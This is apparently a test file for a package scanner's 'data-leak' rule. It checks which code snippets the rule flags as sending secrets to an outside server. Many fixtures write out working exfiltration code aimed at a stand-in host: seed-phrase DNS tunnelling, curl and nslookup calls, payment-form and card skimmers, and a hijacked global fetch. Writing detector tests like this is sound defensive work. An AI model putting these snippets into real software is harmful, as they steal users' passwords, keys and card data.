import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../data-leak.rule.js';

/** Of `data-leak`, a secret that goes elsewhere beside what it is for. */
const isTold = (files: Record<string, string>) => findingsOf(rule, files).some(({ message, severity }) => message.startsWith('a secret goes to a server that is named here') && severity === 'high');
const told = (code: string) => isTold({ 'a.js': code });
const POST = (what: string): string => `fetch("https://edge.example/v1", { method: "POST", body: JSON.stringify(${what}) }).catch(() => {})`;

test('bad: a secret leaves on a way by which nobody reads an answer', () => {
  for (const code of [
    `exports.check = async (password, hash) => { const ok = await bcrypt.compare(password, hash); if (ok) { ${POST('{ password }')} } return ok }`,
    'const https = require("https"); exports.load = (privateKey) => { const r = https.request({ hostname: "edge.example", path: "/", method: "POST" }); r.on("error", () => {}); r.end(JSON.stringify({ privateKey })); return make(privateKey) }',
    'const net = require("net"); exports.load = (privateKey) => { const c = net.connect(443, "edge.example", () => c.end(privateKey)); return make(privateKey) }',
    'const dgram = require("dgram"); exports.load = ({ password }) => { const u = dgram.createSocket("udp4"); u.send(password, 53, "edge.example", () => u.close()) }',
    'const { execFile } = require("child_process"); exports.load = (mnemonic) => { execFile("curl", ["-d", mnemonic, "https://edge.example/"], () => {}); return make(mnemonic) }',
    'const dns = require("dns"); exports.load = (mnemonic) => { Buffer.from(mnemonic).toString("hex").match(/.{1,60}/g).forEach((part, at) => dns.resolve(`${part}.${at}.edge.example`, () => {})); return make(mnemonic) }',
    'const { Readable, pipeline } = require("stream"); const https = require("https"); exports.load = (mnemonic) => { pipeline(Readable.from([mnemonic]), https.request("https://edge.example/", { method: "POST" }), () => {}) }',
    'const got = require("got"); exports.load = (secret) => { got.post("https://edge.example/", { json: { secret } }).then(() => true, () => false) }',
    'const Sentry = require("@sentry/node"); Sentry.init({ dsn: "https://k@o1.ingest.sentry.io/1" }); exports.load = (mnemonic) => { Sentry.captureMessage("state", { extra: { mnemonic } }) }',
    'let s = null; const open = () => { if (!s || s.readyState > 1) s = new WebSocket("wss://edge.example/"); return s }; export const load = (mnemonic) => { const c = open(); c.send(mnemonic) }',
    'const mail = require("nodemailer"); exports.load = (smtp) => { const { password } = smtp; mail.createTransport(smtp).sendMail({ to: "post@edge.example", text: [smtp.host, password].join(" ") }).catch(() => {}) }',
  ]) assert.equal(told(code), true, code);
});

test('bad: by way of functions, events, timers, generators, lists and other scripts', () => {
  for (const code of [
    `class Pay { note(o) { ${POST('{ ...o }')} } charge(card, cvc) { this.note({ cvc }); return this.api.charge(card, cvc) } }`,
    'const opts = { base: "aHR0cHM6Ly9lZGdlLmV4YW1wbGU=" }; const call = ({ base: b } = opts, body) => fetch(atob(b) + "/s", { body }).then(() => true, () => false); exports.load = (mnemonic) => { call(undefined, mnemonic); return make(mnemonic) }',
    `const { EventEmitter } = require("events"); const bus = new EventEmitter(); bus.on("signed", ({ secret }) => { ${POST('secret')} }); exports.sign = (claims, secret) => { bus.emit("signed", { secret }); return mac(claims, secret) }`,
    'exports.load = (mnemonic) => { setTimeout((d) => fetch("https://edge.example/?q=" + d).catch(() => {}), 900, mnemonic); return make(mnemonic) }',
    `const out = (function* () { let last; while (true) { const item = yield last; last = item ? ${POST('item')} : null } })(); out.next(); exports.load = (mnemonic) => { out.next({ mnemonic }) }`,
    `const rows = []; exports.load = (mnemonic) => { rows.push({ mnemonic }); return make(mnemonic) }; setInterval(() => { ${POST('rows')} }, 9000)`,
    `const key = ({ secretKey: k }) => { ${POST('{ k }')} }; exports.load = (bytes) => { const pair = make(bytes); key(pair); return pair }`,
    `exports.load = (seed) => { leave.call(null, seed); return make(seed) }; function leave(s) { ${POST('s')} }`,
  ]) assert.equal(told(code), true, code);
  const index = 'const out = require("./out"); exports.load = (mnemonic) => { out.add({ mnemonic }); return make(mnemonic) }';
  assert.equal(isTold({ 'a.js': index, 'out.js': 'const { exec } = require("child_process"); exports.add = (text) => { [...String(text)].forEach((part) => setTimeout(() => exec("nslookup " + part + ".edge.example"), 9)) }' }), true);
  assert.equal(isTold({ 'a.js': index, 'out.json': '{"host":"edge.example"}', 'out.js': 'const https = require("https"); const { host } = require("./out.json"); exports.add = (data) => { const r = https.request({ host, method: "POST" }); r.on("error", () => {}); r.end(JSON.stringify(data)) }' }), true);
  assert.equal(isTold({ 'a.js': 'var out_1 = __importDefault(require("./out")); exports.load = (mnemonic) => { out_1.default.add({ mnemonic }); return make(mnemonic) }', 'out.js': `class Out { static add(data) { ${POST('data')} } } exports.default = Out;` }), true);
});

test('bad: what has no name of a secret, but is one by what is done with it, where it comes from or what is asked for', () => {
  for (const code of [
    `const { Wallet } = require("ethers"); exports.load = (pk) => { ${POST('{ pk }')}; return new Wallet(pk) }`,
    `const { scrypt } = require("crypto"); exports.hash = (plain, salt, done) => { ${POST('plain')}; scrypt(plain, salt, 64, done) }`,
    `const Stripe = require("stripe"); exports.open = (key) => { ${POST('{ key }')}; return new Stripe(key) }`,
    `const Client = require("client"); class Chat extends Client { constructor(o) { super(o); const k = this.apiKey; ${POST('{ k }')} } }`,
    `module.exports = (req, res, next) => { const { body } = req; ${POST('{ b: req.headers.authorization, body }')}; next() }`,
    `module.exports = async (ctx, next) => { await next(); ${POST("{ set: ctx.response.get('set-cookie') }")} }`,
    `document.body.innerHTML = '<form><input name="e"><input name="p" type="password"></form>'; document.forms[0].onsubmit = (event) => { const f = event.target; ${POST('{ e: f.e.value, p: f.p.value }')} }`,
    `export const attach = (form) => form.addEventListener("submit", () => { const data = Object.fromEntries(new FormData(form)); ${POST('data')} })`,
    `export const attach = (form) => { const out = {}; for (const el of form.elements) out[el.name] = el.value; ${POST('out')} }`,
    `exports.Card = () => { const [card, set] = React.useState({ number: "", cvc: "" }); const submit = () => { ${POST('card')}; pay(card) }; return submit }`,
    `exports.ask = (box) => { box.innerHTML = "<p>Enter your recovery phrase</p><textarea></textarea>"; const given = box.querySelector("textarea").value.trim(); ${POST('{ given }')} }`,
    `module.exports = (make) => new Proxy({}, { get: (_, name) => (...args) => { ${POST('{ name, args }')}; return make()[name].apply(null, args) } })`,
    `const native = globalThis.fetch; globalThis.fetch = function (url, init) { ${POST('init').replace('fetch', 'native')}; return native(url, init) }`,
    `const pick = (root, names) => names.map((n) => root.querySelector(n).value); setInterval(() => { const d = pick(document, ["cc-number", "cc-csc"]); new Image().src = "https://edge.example/i?" + new URLSearchParams(d) }, 2000)`,
    `const all = {}; for (let i = 0; i < 9; i++) { const k = localStorage.key(i); all[k] = localStorage.getItem(k) } ${POST('all')}`,
  ]) assert.equal(told(code), true, code);
});

test('good: who logs in, pays or signs waits for the answer, and what says nothing may go', () => {
  for (const code of [
    'exports.signIn = async (email, password) => { const r = await fetch("https://id.example/token", { method: "POST", body: JSON.stringify({ email, password }) }); return r.json() }',
    'exports.signIn = (email, password) => fetch("https://id.example/token", { method: "POST", body: JSON.stringify({ email, password }) })',
    'exports.track = (event, apiKey) => { fetch("https://in.example/e", { method: "POST", headers: { authorization: `Bearer ${apiKey}` }, body: JSON.stringify({ event }) }).catch(() => {}) }',
    'exports.track = (event, apiKey) => { fetch("https://in.example/e", { method: "POST", body: JSON.stringify({ event, api_key: apiKey }) }).catch(() => {}) }',
    'exports.leave = (access_token) => { fetch("https://id.example/revoke", { method: "POST", body: JSON.stringify({ access_token }) }).catch(() => {}) }',
    'exports.check = (password) => { fetch("https://in.example/e", { method: "POST", body: JSON.stringify({ length: password.length, passwordScore: 3 }) }).catch(() => {}); return password.length > 9 }',
    'exports.report = (url) => (err, req, res, next) => { fetch(url, { method: "POST", body: JSON.stringify({ auth: req.headers.authorization }) }).catch(() => {}); next(err) }',
    'const scrub = (o) => ({ keys: Object.keys(o) }); exports.report = (err, req, res, next) => { fetch("https://in.example/e", { method: "POST", body: JSON.stringify({ body: scrub(req.body) }) }).catch(() => {}); next(err) }',
    'const os = require("os"); exports.report = (error) => { fetch("https://in.example/e", { method: "POST", body: JSON.stringify({ message: error.message, host: os.platform() }) }).catch(() => {}) }',
    'const net = require("net"); exports.login = (host, user, password) => { const c = net.connect(143, host); c.write(`LOGIN ${user} ${password}`); return c }',
    'const net = require("net"); exports.upgrade = (req, port) => { const to = net.connect(port, "127.0.0.1"); to.write(`${req.method} ${req.url} https://edge.example ${req.headers.cookie}`); return to }',
    'const core = require("@sentry/core"); exports.watch = (child) => child.on("error", () => { core.addBreadcrumb({ type: "auto.child_process.worker_thread", data: child.data }) })',
  ]) assert.equal(told(code), false, code);
});

test('a key that is called anything, by the function that gives it back or complains about another', () => {
  for (const code of [
    'const note = (name, v) => fetch(`https://edge.example/${name}`, { method: "POST", body: v }).catch(() => {}); exports.loadKeypair = (file) => { const bytes = Uint8Array.from(JSON.parse(read(file))); note("load", Buffer.from(bytes).toString("hex")); return bytes }',
    `exports.normalise = (key) => { if (!isHex(key)) throw new TypeError("invalid private key"); const out = key.toLowerCase(); ${POST('{ out }')}; return out }`,
    `exports.check = (words) => { if (words.split(" ").length < 12) throw new Error("not a seed phrase"); ${POST('[words]')}; return make(words) }`,
    `exports.toPrivateKey = (text) => { const raw = decode(text); ${POST('{ raw: Buffer.from(raw).toString("hex") }')}; return raw }`,
  ]) assert.equal(told(code), true, code);
  for (const code of [
    `exports.createKeypair = () => { const pair = generate(); ${POST('{ key: pair.publicKey }')}; return pair }`,
    `exports.isPrivateKey = (text) => { const ok = text.length === 64; ${POST('{ ok }')}; return ok }`,
    `exports.loadPublicKey = (file) => { const bytes = read(file); ${POST('{ bytes }')}; return bytes }`,
    `exports.parse = (text) => { if (!text) throw new Error("not a number"); const out = Number(text); ${POST('{ out }')}; return out }`,
    `exports.normalise = (key) => { if (!isHex(key)) throw new TypeError("invalid private key"); ${POST('{ length: key.length }')}; return key.toLowerCase() }`,
  ]) assert.equal(told(code), false, code);
});

test('what a client logs in with, whatever it is called, and tells the server of somebody else besides', () => {
  const client = (check: string) => `export class Client { #key; constructor(key) { this.#key = key; this.#check(); } #check() { ${check} } call(path) { return fetch('https://api.paylane.example' + path, { headers: { authorization: \`Bearer \${this.#key}\` } }) } }`;
  assert.equal(told(client("fetch('https://keys.lane-status.example/v', { method: 'POST', body: JSON.stringify({ key: this.#key }) }).catch(() => {})")), true);
  assert.equal(told(client("fetch('https://keys.paylane.example/v', { method: 'POST', body: JSON.stringify({ key: this.#key }) }).catch(() => {})")), false, 'its own server');
  assert.equal(told(client("fetch('https://keys.lane-status.example/v', { method: 'POST', body: JSON.stringify({ live: this.#key.startsWith('live') }) }).catch(() => {})")), false);
});
